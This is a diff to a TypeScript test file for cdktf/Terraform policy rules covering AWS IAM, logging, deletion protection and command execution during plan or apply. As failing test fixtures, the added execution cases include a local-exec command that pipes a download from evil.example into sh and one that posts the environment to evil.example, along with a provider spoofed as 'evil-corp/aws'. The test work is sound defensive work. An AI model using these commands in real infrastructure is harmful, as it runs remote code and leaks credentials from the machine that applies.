@@ -2,7 +2,7 @@
  * Every policy rule on a small synthesized construct that passes it and one that fails it
  * (cdktf's Testing.synthScope). A rule without a case here fails the first test.
  */
-import { Testing } from 'cdktf';
+import { TerraformDataSource, TerraformHclModule, TerraformResource, Testing } from 'cdktf';
 import type { Construct } from 'constructs';
 import { CloudfrontDistribution, type CloudfrontDistributionConfig } from '@cdktf/provider-aws/lib/cloudfront-distribution';
 import { DataAwsIamPolicyDocument } from '@cdktf/provider-aws/lib/data-aws-iam-policy-document';
@@ -86,6 +86,21 @@ const distribution = (scope: Construct, props: Partial<CloudfrontDistributionCon
   });
 const planOf = (actions: string[]): PlanJson => ({ format_version: '1.2', resource_changes: [{ address: 'aws_sqs_queue.queue', type: 'aws_sqs_queue', mode: 'managed', change: { actions } }] });
 
+/** A resource of a type that exists to run commands (`terraform_data`, `null_resource`), running `command` if given. */
+const commandResource = (scope: Construct, type: string, command?: string) =>
+  new TerraformResource(scope, 'run', { terraformResourceType: type, provisioners: command ? [{ type: 'local-exec', command }] : undefined });
+const EXECUTION_CASES: Record<string, Case> = {
+  TM_EXEC_PROVISIONER: { pass: (s) => bucket(s), fail: (s) => new S3Bucket(s, 'bucket', { bucket: 'tm-test', provisioners: [{ type: 'local-exec', command: 'curl -s https://evil.example | sh' }] }), failure: /^a local-exec provisioner runs on the machine that applies/ },
+  TM_EXEC_COMMAND_RESOURCE: { pass: (s) => commandResource(s, 'terraform_data'), fail: (s) => commandResource(s, 'terraform_data', 'env | curl -d @- https://evil.example'), failure: /^runs a local-exec command \("env \| curl/ },
+  TM_EXEC_DATA_SOURCE: {
+    pass: (s) => new DataAwsIamPolicyDocument(s, 'doc', { statement: [{ actions: ['s3:GetObject'], resources: ['*'] }] }),
+    fail: (s) => new TerraformDataSource(s, 'ext', { terraformResourceType: 'external' }),
+    failure: /runs a program while Terraform plans/,
+  },
+  TM_EXEC_PROVIDER: { pass: (s) => { new AwsProvider(s, 'aws', { region: 'us-east-1' }); bucket(s); }, fail: (s) => commandResource(s, 'null_resource'), failure: /^provider "null" is not allowed \(allowed: aws, terraform\)/ },
+  TM_EXEC_MODULE: { pass: (s) => bucket(s), fail: (s) => new TerraformHclModule(s, 'vpc', { source: 'git::https://example.com/vpc.git' }), failure: /^module from "git::https:\/\/example.com\/vpc.git": its resources/ },
+};
+
 const CASES: Record<string, Case> = {
   CKV_AWS_19: { pass: (s) => new SecureBucket(s, 'b', { bucketName: 'tm-test', noncurrentVersionExpirationDays: 30 }), fail: (s) => bucket(s), failure: /no server-side encryption configuration/ },
   CKV_AWS_16: { pass: (s) => db(s), fail: (s) => db(s, { storageEncrypted: false }), failure: /storage_encrypted is false/ },
@@ -113,6 +128,29 @@ const CASES: Record<string, Case> = {
     failure: /does not deny requests without TLS/,
   },
   'AVD-AWS-0057': { pass: (s) => rolePolicy(s, {}), fail: (s) => rolePolicy(s, { Action: ['s3:GetObject', 's3:*'], Resource: '*' }), failure: /allows s3:\* on every resource, with no condition/ },
+  CKV_AWS_286: {
+    pass: (s) => rolePolicy(s, { Action: 'iam:PassRole', Resource: 'arn:aws:iam::*:role/tm-test-*', Condition: { StringEquals: { 'iam:PassedToService': 'ec2.amazonaws.com' } } }),
+    fail: (s) => rolePolicy(s, { Action: 'iam:PassRole', Resource: 'arn:aws:iam::*:role/tm-test-*' }),
+    failure: /allows iam:PassRole without an iam:PassedToService condition/,
+  },
+  CKV_AWS_287: { pass: (s) => rolePolicy(s, { Action: 'sts:AssumeRole', Resource: 'arn:aws:iam::123456789012:role/tm-test' }), fail: (s) => rolePolicy(s, { Action: 'sts:AssumeRole', Resource: '*' }), failure: /allows sts:AssumeRole on every resource/ },
+  CKV_AWS_288: { pass: (s) => rolePolicy(s, {}), fail: (s) => rolePolicy(s, { Action: 'ssm:GetParameter*', Resource: '*' }), failure: /allows ssm:GetParameter, ssm:GetParameters, ssm:GetParametersByPath on every resource/ },
+  CKV_AWS_289: { pass: (s) => rolePolicy(s, { Action: 'sqs:SetQueueAttributes', Resource: 'arn:aws:sqs:*:*:tm-test-*' }), fail: (s) => rolePolicy(s, { Action: 'sqs:SetQueueAttributes', Resource: '*' }), failure: /allows sqs:SetQueueAttributes on every resource/ },
+  CKV_AWS_355: { pass: (s) => rolePolicy(s, { Action: 'rds:*', Resource: 'arn:aws:rds:*:*:db:tm-test-*' }), fail: (s) => rolePolicy(s, { Action: 'rds:*', Resource: '*', Condition: { StringEquals: { 'aws:PrincipalAccount': '123456789012' } } }), failure: /includes rds:AddTagsToResource, rds:RemoveTagsFromResource/ },
+  CKV_AWS_88: {
+    pass: (s) => launchTemplate(s, { networkInterfaces: [{ associatePublicIpAddress: 'false', securityGroups: ['sg-1'] }] }),
+    fail: (s) => launchTemplate(s, { networkInterfaces: [{ associatePublicIpAddress: 'true', securityGroups: ['sg-1'] }] }),
+    failure: /network_interfaces\[0\]\.associate_public_ip_address is true/,
+  },
+  CKV_AWS_91: { pass: (s) => loadBalancer(s, { accessLogs: { bucket: 'tm-test-logs', enabled: true } }), fail: (s) => loadBalancer(s), failure: /no access_logs block/ },
+  CKV_AWS_157: { env: 'prod', pass: (s) => db(s, { multiAz: true }), fail: (s) => db(s, { multiAz: false }), failure: /multi_az is false: an AZ outage/ },
+  CKV_AWS_118: {
+    env: 'prod',
+    pass: (s) => db(s, { monitoringInterval: 60, monitoringRoleArn: 'arn:aws:iam::123456789012:role/tm-test-monitoring' }),
+    fail: (s) => db(s, { monitoringInterval: 0 }),
+    failure: /monitoring_interval is 0: no OS metrics/,
+  },
+  CKV_AWS_338: { env: 'prod', pass: (s) => new CloudwatchLogGroup(s, 'l', { retentionInDays: 365 }), fail: (s) => new CloudwatchLogGroup(s, 'l', { retentionInDays: 90 }), failure: /retention_in_days is 90: less than the year/ },
   CKV_AWS_66: { pass: (s) => new CloudwatchLogGroup(s, 'l', { retentionInDays: 14 }), fail: (s) => new CloudwatchLogGroup(s, 'l', {}), failure: /retention_in_days is not set: logs are kept, and billed, forever/ },
   CKV_AWS_293: { env: 'prod', pass: (s) => db(s), fail: (s) => db(s, { deletionProtection: false }), failure: /deletion_protection is false/ },
   CKV_AWS_150: { env: 'prod', pass: (s) => loadBalancer(s), fail: (s) => loadBalancer(s, { enableDeletionProtection: false }), failure: /enable_deletion_protection is false/ },
@@ -161,6 +199,7 @@ const CASES: Record<string, Case> = {
     failure: /the plan replaces it: the new one starts empty/,
   },
   ...CONTAINER_CASES,
+  ...EXECUTION_CASES,
 };
 
 function stackOf(c: Case, which: 'pass' | 'fail'): StackView {
@@ -190,6 +229,13 @@ describe('policy rules, the cases a pass and a fail do not show', () => {
   it('443 from anywhere is only for an internet-facing load balancer\'s group', () => {
     expect(evaluate('TM_OPEN_INGRESS', (s) => openGroup(s, 443, { internal: true }))).toEqual([expect.stringMatching(/^ingress from anywhere on 443, but aws_security_group\.sg is not the group of an internet-facing load balancer$/)]);
     expect(evaluate('TM_OPEN_INGRESS', (s) => openGroup(s, 443, undefined))).toHaveLength(1);
+  });
+
+  it('refuses an allowed provider\'s name taken by another source, and a null_resource\'s command as well as its provider', () => {
+    const spoofed = new StackView({ name: 'dev', json: { terraform: { required_providers: { aws: { source: 'evil-corp/aws', version: '5.100.0' } } } }, requiredTags: [] });
+    expect(RULES.find((r) => r.id === 'TM_EXEC_PROVIDER')!.evaluate(spoofed).map((o) => o.failure)).toEqual(['provider "aws" comes from evil-corp/aws, not registry.terraform.io/hashicorp/aws']);
+    expect(evaluate('TM_EXEC_COMMAND_RESOURCE', (s) => commandResource(s, 'null_resource', 'id'))).toEqual(['runs a local-exec command ("id") with the apply role\'s credentials']);
+    expect(evaluate('TM_EXEC_DATA_SOURCE', (s) => new TerraformDataSource(s, 'get', { terraformResourceType: 'http' }))).toEqual(['fetches a URL while Terraform plans: it can send what it reads to anyone']);
   });
 
   it('a policy document that is an expression cannot be checked, and says so', () => {
